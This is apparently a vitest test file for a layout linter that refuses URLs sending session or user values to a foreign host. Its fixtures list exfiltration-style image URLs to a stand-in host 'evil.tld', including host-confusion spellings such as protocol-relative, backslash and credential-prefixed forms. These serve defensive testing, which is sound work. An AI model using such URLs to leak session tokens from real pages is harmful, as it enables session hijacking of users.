/**
 * The linter's view of where a URL written in a layout goes. A session value may go to
 * this app's own /paths only; an image or frame host must be on config/app.json's lists. Spellings
 * a browser reads as another host count as another host.
 */
import { describe, expect, it } from 'vitest';
import { validateLayoutDocument } from '../../src/lint/validateLayout';

const image = (src: string) => ({
  id: 'x',
  version: 1,
  title: 'X',
  body: [{ type: 'image', src, alt: '' }],
});
const codes = (doc: unknown) =>
  validateLayoutDocument(doc, 'fixtures/x.json').map((i) => `${i.pointer} ${i.code}`);

describe('session values in URLs', () => {
  it.each([
    'https://evil.tld/p.png?s={{ query.sessionId }}',
    '//evil.tld/p.png?s={{ query.sessionId }}',
    '/\\evil.tld/p.png?s={{ query.sessionId }}',
    '\t//evil.tld/p.png?s={{ query.sessionId }}',
    'https://{{ query.sessionId }}.evil.tld/p.png',
    'https://cdn.kopa.example{{ query.userId }}/p.png',
    '{{ query.mobilePhone }}',
    '{{ "https://evil.tld/?" + query.userId }}',
    'https://cdn.kopa.example/p.png?q={{ query }}',
    'https://cdn.kopa.example/p.png?o={{ query["orderId"] }}',
  ])('%s is refused', (src) => {
    expect(codes(image(src))).toContain('/body/0/src session-in-url');
  });

  it.each([
    '/assets/demo/p.png?s={{ query.sessionId }}&u={{ query.userId }}',
    'https://cdn.kopa.example/p-{{ query.lang }}.png',
    'https://cdn.kopa.example/logo.png',
    '{{ data.none }}',
  ])('%s is allowed', (src) => {
    expect(
      codes(image(src)).filter((c) => c.endsWith('session-in-url') || c.endsWith('foreign-host')),
    ).toEqual([]);
  });

  it('a host written with credentials in front is judged by the host after them', () => {
    expect(codes(image('https://cdn.kopa.example@evil.tld/p.png'))).toContain(
      '/body/0/src foreign-host',
    );
  });
});
